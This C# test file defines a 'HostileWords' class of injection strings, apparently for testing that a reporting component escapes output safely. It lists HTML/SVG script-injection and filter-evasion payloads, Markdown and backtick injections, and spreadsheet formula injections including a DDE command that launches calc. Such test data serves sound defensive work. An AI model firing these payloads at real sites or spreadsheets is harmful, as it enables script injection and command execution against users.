namespace Cdi.Studies.Tests.Reporting;

/// <summary>Words that try to be more than words in a page, a table, a text or a file for programs.</summary>
internal static class HostileWords
{
    /// <summary>What breaks out of markup, in the ways of OWASP's list for filters, one for each way.</summary>
    public static IReadOnlyList<string> Markup { get; } =
    [
        "<script>window.cdi=1</script>", "</script><script>window.cdi=1</script>", "<ScRiPt src=//cdi.example/x></sCrIpT>", "<img src=x onerror=window.cdi=1>",
        "\"><img src=x onerror=window.cdi=1>", "'><img src=x onerror=window.cdi=1>", "\" onmouseover=\"window.cdi=1", "' autofocus onfocus='window.cdi=1",
        "x onload=window.cdi=1 x=", "<svg onload=window.cdi=1>", "<svg><script>window.cdi=1</script></svg>", "</svg></td></table><svg/onload=window.cdi=1>",
        "<svg><animate onbegin=window.cdi=1 attributeName=x dur=1s>", "<math><mtext><style><img src=x onerror=window.cdi=1></style></mtext></math>",
        "<a href=\"javascript:window.cdi=1\">x</a>", "<a href=\"java&#x09;script:window.cdi=1\">x</a>", "javascript:window.cdi=1",
            "data:text/html,<script>window.cdi=1</script>",
        "&lt;script&gt;window.cdi=1&lt;/script&gt;", "&#60;script&#62;window.cdi=1&#60;/script&#62;", "&amp;lt;b&amp;gt;", "&quot; onclick=&quot;window.cdi=1",
            "&#0;&#x110000;&nosuch;",
        "<template><script>window.cdi=1</script></template>", "<iframe srcdoc=\"<script>parent.cdi=1</script>\"></iframe>",
            "<object data=//cdi.example/x></object>",
        "<embed src=//cdi.example/x>", "<link rel=stylesheet href=//cdi.example/x>", "<meta http-equiv=refresh content=0;url=//cdi.example/x>",
            "<base href=//cdi.example/>",
        "<form action=//cdi.example/><button>x", "<style>@import '//cdi.example/x';*{display:none}</style>", "</style><script>window.cdi=1</script>",
        "<!-- <script>window.cdi=1</script>", "--><script>window.cdi=1</script>", "<![CDATA[<script>window.cdi=1</script>]]>", "<?xml version=1?><x>",
            "<!DOCTYPE x [<!ENTITY y 'z'>]>",
        "<b", "<b <i", "</table></div></body></html><p>after", "<textarea><title><noscript><plaintext>", "<scr\0ipt>window.cdi=1</scr\0ipt>",
            "<img\u000Bsrc=x\u000Conerror=window.cdi=1>",
        "\u202E<script>window.cdi=1</script>\u202C", "\uFF1Cscript\uFF1Ewindow.cdi=1\uFF1C/script\uFF1E", "<img src=x\u2028onerror=window.cdi=1>",
            "\u0085<b>\u009B31m\u001B[31m\u0007",
        "{{constructor.constructor('window.cdi=1')()}}", "${window.cdi=1}", "<details open ontoggle=window.cdi=1>", "<video><source onerror=window.cdi=1>",
            "<x style=behavior:url(//cdi.example/x)>",
    ];

    /// <summary>What begins markup of Markdown: links, images, headings, lists, tables, code, rules, HTML.</summary>
    public static IReadOnlyList<string> Markdown { get; } =
    [
        "[x](javascript:window.cdi=1)", "![x](//cdi.example/x)", "[x][y]", "[x]: //cdi.example/x", "<javascript:window.cdi=1>", "<https://cdi.example/>", "# x",
            "> x", "- x", "+ x", "1. x",
        "1) x", "*x*", "**x**", "_x_", "__x__", "~~x~~", "| x | y |", "a | b", "***", "\\<b>", "<b>x</b>", "<!-- x", "&lt;b&gt;", "&#60;b&#62;",
            "![x](x\"onerror=window.cdi=1)", "a\\",
    ];

    /// <summary>Backticks, which part names from words in messages and begin code in Markdown.</summary>
    public static IReadOnlyList<string> Backticks { get; } =
        ["`x`", "``` x", "\\`", "x`y", "`<b>x</b>`", "x` <img src=x onerror=window.cdi=1> `y", "``` <script>window.cdi=1</script>"];

    /// <summary>What a spreadsheet would run or read as several cells.</summary>
    public static IReadOnlyList<string> Cells { get; } =
    [
        "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "=HYPERLINK(\"//cdi.example/\",\"x\")", "\uFF1D1+1", "\uFF0B1",
            "\uFF0D1+1", "\uFF20x",
        "q,b", "q\"b", "\"=1+1\"", "q\nb", "q\r\nb", "q;b", "q\tb", "'=1+1",
    ];
}
